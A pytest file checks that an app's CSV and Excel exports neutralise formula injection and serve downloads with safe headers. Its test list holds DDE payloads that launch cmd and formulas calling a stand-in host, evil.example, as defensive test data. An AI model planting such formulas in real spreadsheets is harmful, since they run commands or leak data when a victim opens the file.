import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from esafety.documents.tables import as_text, csv_lines, csv_response, xlsx_bytes, xlsx_response

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    '"=1+1',
    "|calc",
    "%0A=1",
    '=HYPERLINK("https://evil.example","click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@import",
    '=IMPORTXML("https://evil.example")',
    '=WEBSERVICE("https://evil.example")',
    "==1",
    "=-1",
    "=\t1",
    "''=1",
    "  @x",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_typed_is_a_formula_in_a_csv(text):
    (_, (cell,)) = list(csv.reader(io.StringIO("".join(csv_lines(["What"], [[text]])), newline="")))
    assert cell.startswith("'")
    assert cell[1:] == text


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_typed_is_a_formula_in_a_workbook(text):
    raw = xlsx_bytes("Log", ["What"], [[text]])
    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cell = load_workbook(io.BytesIO(raw)).active["A2"]
    assert cell.data_type == "s"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        ("plain", "plain"),
        ("e-mail", "e-mail"),
        (-3, "-3"),
        (date(2026, 3, 4), "2026-03-04"),
        (datetime(2026, 7, 4, 13, 30, tzinfo=UTC), "2026-07-04 14:30"),
    ],
)
def test_other_values_stay_what_they_are(value, text):
    assert as_text(value) == text


def test_characters_that_a_workbook_cannot_hold_are_left_out():
    cell = load_workbook(io.BytesIO(xlsx_bytes("Log", ["What"], [["a\x0bb 🙈"]]))).active["A2"]
    assert cell.value == "ab 🙈"


@pytest.mark.parametrize(
    "response",
    [csv_response("log", ["A"], [["b"]]), xlsx_response("log", "Log", ["A"], [["b"]])],
)
def test_what_is_taken_away_is_never_shown_as_a_page(response):
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
